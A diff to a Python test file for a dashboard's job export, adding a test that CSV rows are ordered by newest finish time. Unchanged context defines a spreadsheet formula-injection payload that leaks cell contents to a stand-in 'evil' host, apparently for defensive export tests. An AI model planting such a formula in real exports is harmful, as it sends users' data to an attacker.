@@ -7,8 +7,9 @@ import json
 import pytest
 
 from greenscale_dashboard.view.export import FORMS, PAGE, cell, export
-from greenscale_dashboard.view.jobs import Filter, Place
+from greenscale_dashboard.view.listing import Filter, Place
 from greenscale_jobs import Finished, JobClient, JobQueue, JobState, Outcome, Parameters, Usage
+from greenscale_testing.local_redis import Clock
 
 HOSTILE = '=HYPERLINK("http://evil/?"&A1,"x")'
 
@@ -53,6 +54,21 @@ async def test_a_csv_holds_every_job_as_a_row_that_can_be_read_back(queue: JobQu
     assert {(row["state"], row["attempts"], row["prompt tokens"], row["answer tokens"]) for row in rows} == {
         ("done", "1", "3", "4")
     }
+
+
+async def test_a_csv_begins_with_the_job_that_ended_last(queue: JobQueue, clock: Clock, client: JobClient) -> None:
+    """What a spreadsheet shows first is what the page shows first: whichever was sent first, the newest end."""
+    for prompt in ("first", "second", "third"):
+        await queue.submit(prompt)
+    first, second, third = await queue.claim("worker-1", 3) or []
+    for claim in (second, third, first):
+        await queue.finish([Finished(claim, "because", Outcome())])
+        clock.advance(1)
+    made = export(client, Filter(), FORMS["CSV"], told=lambda _: None)
+    rows = list(csv.DictReader(io.StringIO(made.content.decode("utf-8-sig"), newline="")))
+
+    assert [row["prompt"] for row in rows] == ["first", "third", "second"]
+    assert [row["finished"] for row in rows] == sorted((row["finished"] for row in rows), reverse=True)
 
 
 async def test_json_lines_hold_what_is_known_of_each_job(queue: JobQueue, client: JobClient) -> None:
